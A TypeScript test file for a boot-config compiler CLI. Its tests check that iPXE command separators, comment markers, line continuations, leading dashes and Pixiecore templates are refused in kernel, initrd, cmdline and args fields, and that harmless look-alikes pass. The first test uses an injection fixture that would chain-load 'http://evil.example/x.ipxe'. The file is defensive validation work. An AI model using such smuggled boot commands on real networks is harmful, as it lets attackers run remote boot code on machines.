// Words iPXE reads as syntax (";", "&&", "||", a leading "#", a trailing "\", a leading "-" on
// the kernel or an initrd, "{{" for Pixiecore) are refused wherever a boot config puts them,
// through the real CLI, with file:line:col and a hint; and nothing is written for any output.
// The rules themselves are in src/compile/tokens.ts.

import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { runCli, tempDir, writeFiles } from './helpers.js';

interface Report {
  ok: boolean;
  errors: Array<{ file?: string; line?: number; column?: number; message: string; hint?: string }>;
}

async function validateJson(bootDefault: string): Promise<Report> {
  const data = await writeFiles(await tempDir(), { 'boot/default': bootDefault, 'cloud/default': '#cloud-config\n' });
  const { stdout } = await runCli(['validate', '--data-path', data, '--format', 'json']);
  return JSON.parse(stdout) as Report;
}

test('iPXE command separators and comments in a boot config are refused, for every output kind', async () => {
  // The example: iPXE would run `chain http://evil.example/x.ipxe` after the kernel line.
  const root = await tempDir();
  const data = await writeFiles(join(root, 'data'), {
    'boot/default': '{"kernel":"/images/k","cmdline":{";":"","chain":"","http://evil.example/x.ipxe":""}}',
    'cloud/default': '#cloud-config\n',
  });
  const dist = join(root, 'dist');
  const built = await runCli(['build', '--data-path', data, '--dist-path', dist]);
  assert.equal(built.code, 1, built.stderr);
  assert.match(built.stderr, new RegExp(`${data}/boot/default:1:34: "cmdline" entry ";" is an iPXE command separator`));
  assert.match(built.stderr, /hint: iPXE reads ";", "&&" and "\|\|" as the end of a command/);
  assert.equal(existsSync(join(dist, 'current')), false, 'no iPXE script, Pixiecore answer or cloud config is written');
});

test('every position of a boot config is checked: kernel, initrd, cmdline keys and entries, args', async () => {
  const config = `{
  "kernel": "#/images/k",
  "initrd": ["/images/i", "--name=x", "&&"],
  "cmdline": {"||": "", "#comment": "", "key": "value\\\\", "ok": ";"},
  "args": [";", "#", "a\\\\", "{{ID}}", "--", "-s", "a;b", "x#y", "\${uuid}"]
}`;
  const report = await validateJson(config);
  assert.equal(report.ok, false);
  const found = report.errors.map((e) => `${e.line}:${e.column} ${e.message}`);
  assert.deepEqual(found, [
    '2:13 "kernel" "#/images/k" starts with "#", which starts an iPXE comment',
    '3:27 each item of "initrd" "--name=x" starts with "-", which iPXE reads as an option of kernel/initrd',
    '3:39 each item of "initrd" "&&" is an iPXE command separator',
    '4:15 "cmdline" entry "||" is an iPXE command separator',
    '4:25 "cmdline" entry "#comment" starts with "#", which starts an iPXE comment',
    '4:41 "cmdline" entry "key=value\\\\" ends with "\\", which joins the next iPXE script line to this one',
    '5:12 each item of "args" ";" is an iPXE command separator',
    '5:17 each item of "args" "#" starts with "#", which starts an iPXE comment',
    '5:22 each item of "args" "a\\\\" ends with "\\", which joins the next iPXE script line to this one',
    '5:29 each item of "args" "{{ID}}" contains "{{", which Pixiecore expands as a template',
  ]);
  assert.ok(report.errors.every((e) => e.file?.endsWith('/boot/default') && e.hint), JSON.stringify(report.errors));
});

test('words that only look like syntax stay allowed and are rendered as written', async () => {
  const root = await tempDir();
  const data = await writeFiles(join(root, 'data'), {
    'boot/default': JSON.stringify({
      kernel: '/images/k',
      initrd: ['/images/i;1'],
      cmdline: { ok: ';', 'x&&y': '', 'cloud-config-url': 'http://b/cloud?uuid=${uuid}&mac=${net0/mac:hexhyp}' },
      args: ['--', '-s', 'a;b', 'x#y', '}}{'],
    }),
    'cloud/default': '#cloud-config\n',
  });
  const dist = join(root, 'dist');
  const built = await runCli(['build', '--data-path', data, '--dist-path', dist]);
  assert.equal(built.code, 0, built.stderr);
  const args = 'ok=; x&&y cloud-config-url=http://b/cloud?uuid=${uuid}&mac=${net0/mac:hexhyp} -- -s a;b x#y }}{';
  assert.equal(readFileSync(join(dist, 'current/ipxe/default'), 'utf8'), `#!ipxe\nkernel /images/k initrd=i;1 ${args}\ninitrd /images/i;1\nboot\n`);
  assert.equal(JSON.parse(readFileSync(join(dist, 'current/pixiecore/default'), 'utf8')).cmdline, args);
});
